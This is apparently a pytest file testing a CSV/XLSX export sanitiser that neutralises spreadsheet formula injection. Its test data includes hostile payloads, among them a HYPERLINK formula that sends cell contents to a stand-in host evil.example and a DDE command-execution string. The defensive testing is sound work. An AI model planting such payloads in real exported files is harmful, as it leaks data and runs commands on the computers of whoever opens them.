"""The OWASP CSV-injection rule in one place (binhdang/lib/safe_cells.py)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from binhdang.lib.safe_cells import CsvDictWriter, CsvWriter, formula_like, xlsx_text_sheet

EVIL = ['=HYPERLINK("http://evil.example/?leak="&B2,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", EVIL)
def test_formula_like_text_is_caught(text: str) -> None:
    assert formula_like(text)


@pytest.mark.parametrize(
    "value", ["", "Theo Công an xã", "a=b", " =1", "-3", "-3,5", "+12", "-1.234,5", "45%", -3, Decimal("-2.5"), None]
)
def test_plain_text_and_numbers_are_left_alone(value: object) -> None:
    assert not formula_like(value)


def test_csv_writer_escapes_text_not_numbers() -> None:
    out = io.StringIO()
    CsvWriter(out).writerows([[*EVIL, -5, Decimal("-2.5"), "-3,5", "ok"]])
    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[: len(EVIL)] == ["'" + t for t in EVIL]
    assert row[len(EVIL) :] == ["-5", "-2.5", "-3,5", "ok"]


def test_csv_dict_writer_escapes_every_field() -> None:
    out = io.StringIO()
    writer = CsvDictWriter(out, fieldnames=["a", "b"])
    writer.writeheader()
    writer.writerow({"a": "=1+1", "b": -1})
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [{"a": "'=1+1", "b": "-1"}]


def test_xlsx_cells_are_text_and_read_back_unchanged() -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append([*EVIL[:4], -5, "ok"])
    xlsx_text_sheet(ws)
    out = io.BytesIO()
    wb.save(out)
    back = openpyxl.load_workbook(io.BytesIO(out.getvalue()), read_only=True).active
    cells = next(back.iter_rows())
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "n", "s"]
    assert [c.value for c in cells] == [*EVIL[:4], -5, "ok"]
    assert [ws.cell(1, n).quotePrefix for n in range(1, 7)] == [True] * 4 + [False, False]


def test_no_export_writes_csv_or_a_workbook_around_the_rule() -> None:
    """Every CSV goes through CsvWriter/CsvDictWriter; the only workbook writer applies xlsx_text_sheet."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "binhdang"
    raw_csv = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name != "safe_cells.py" and ("csv.writer(" in p.read_text() or "csv.DictWriter(" in p.read_text())
    ]
    assert raw_csv == []
    writers = [str(p.relative_to(root)) for p in root.rglob("*.py") if "openpyxl.Workbook(" in p.read_text()]
    assert writers == ["reporting/spreadsheets/write.py"]
    assert "xlsx_text_sheet(" in (root / "reporting/spreadsheets/write.py").read_text()
